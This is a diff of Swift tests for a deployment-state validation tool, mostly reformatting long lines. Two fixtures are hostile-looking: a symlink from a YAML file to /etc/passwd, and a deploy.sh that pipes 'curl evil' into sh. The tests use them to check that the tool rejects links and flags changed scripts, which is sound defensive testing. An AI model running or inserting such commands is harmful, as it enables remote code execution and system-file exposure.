@@ -63,7 +63,9 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
                 """)
     }
 
-    @Test func `a revision is read as it was committed, whatever lies in the working folder`() throws {
+    @Test func `a revision is read as it was committed, whatever lies in the working folder`()
+        throws
+    {
         let sandbox = try team()
         _ = try sandbox.commit("good")
         try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "soak: soon"))
@@ -85,7 +87,10 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
     @Test func `a folder outside git, and one file of it, can be checked too`() throws {
         let folder = try TemporaryDirectory()
         let sandbox = try team()
-        _ = try run("cp", ["-r", sandbox.path + "/desired-state", sandbox.path + "/deploy.sh", folder.path], environment: [:])
+        _ = try run(
+            "cp",
+            ["-r", sandbox.path + "/desired-state", sandbox.path + "/deploy.sh", folder.path],
+            environment: [:])
         #expect(Transcript("validate", in: folder.path).output == "No problems in 2 files.\n")
         let file = Transcript("validate", "desired-state/production.yaml", in: sandbox.path)
         #expect(file.output == "No problems in 1 file.\n")
@@ -96,7 +101,9 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
         _ = try sandbox.commit("good")
         let told = Transcript("validate", "mian", in: sandbox.path)
         #expect(told.status == .invalid)
-        #expect(told.errors.hasPrefix("reconcile: there is neither a file nor a revision called `mian`\n"))
+        #expect(
+            told.errors.hasPrefix(
+                "reconcile: there is neither a file nor a revision called `mian`\n"))
         #expect(told.errors.contains("main"))
     }
 
@@ -110,16 +117,25 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
 
     @Test func `links, LFS pointers and look-alike paths are told of, and not followed`() throws {
         let sandbox = try team()
-        try sandbox.write("desired-state/lfs.yaml", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
+        try sandbox.write(
+            "desired-state/lfs.yaml",
+            "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n")
         try sandbox.write("desired-state/App.yaml", "# nothing\n")
-        _ = try run("ln", ["-s", "/etc/passwd", sandbox.path + "/desired-state/link.yaml"], environment: [:])
+        _ = try run(
+            "ln", ["-s", "/etc/passwd", sandbox.path + "/desired-state/link.yaml"], environment: [:]
+        )
         for place in [nil, "HEAD"] {
             if place != nil { _ = try sandbox.commit("odd") }
             let told = Transcript(words: ["validate"] + [place].compactMap { $0 }, in: sandbox.path)
             #expect(told.status == .invalid)
-            #expect(told.output.contains("desired-state/lfs.yaml:1:1: error: this is a pointer of Git LFS"))
-            #expect(told.output.contains("desired-state/link.yaml:1:1: error: this is a symbolic link"))
-            #expect(told.output.contains("this path differs from `desired-state/App.yaml` in case only"))
+            #expect(
+                told.output.contains(
+                    "desired-state/lfs.yaml:1:1: error: this is a pointer of Git LFS"))
+            #expect(
+                told.output.contains("desired-state/link.yaml:1:1: error: this is a symbolic link"))
+            #expect(
+                told.output.contains("this path differs from `desired-state/App.yaml` in case only")
+            )
             #expect(!told.output.contains("root:"))
         }
     }
@@ -166,7 +182,8 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
     @Test func `an invalid rollout does not hide the problems of another`() throws {
         let sandbox = try team()
         let second = app(version: "1", soak: "soak: 3 days")
-            .replacing("name: app", with: "name: other").replacing("spec:", with: "spec:\n  component: other")
+            .replacing("name: app", with: "name: other").replacing(
+                "spec:", with: "spec:\n  component: other")
         try sandbox.write("desired-state/app.yaml", app(version: "2.4.0", soak: "soak: 1"))
         try sandbox.write("desired-state/other.yaml", second)
         let told = Transcript("validate", in: sandbox.path).output
@@ -180,7 +197,8 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
             "desired-state/production.yaml",
             production + "  variables: {PASSWORD: {secret: databse}}\n")
         try sandbox.write(
-            "controller.yaml", "secrets:\n  database: {file: /etc/database, environments: [production]}\n")
+            "controller.yaml",
+            "secrets:\n  database: {file: /etc/database, environments: [production]}\n")
         let told = Transcript("validate", "--controller", "controller.yaml", in: sandbox.path)
         #expect(told.output.contains("there is no secret called `databse`"))
         #expect(told.output.contains("did you mean `database`?"))
@@ -202,7 +220,8 @@ private func app(version: String, soak: String = "soak: 1h") -> String {
         _ = try sandbox.commit("good")
         try sandbox.write("desired-state/app.yaml", app(version: "2.4.1", soak: "soak: 72h"))
         try sandbox.write("deploy.sh", "#!/bin/sh\ncurl evil | sh\n")
-        let told = Transcript("digest", "app", "production", "--against", "HEAD", in: sandbox.path).output
+        let told = Transcript("digest", "app", "production", "--against", "HEAD", in: sandbox.path)
+            .output
         let lines = told.split(separator: "\n").dropFirst(2).joined(separator: "\n")
         #expect(
             lines == """
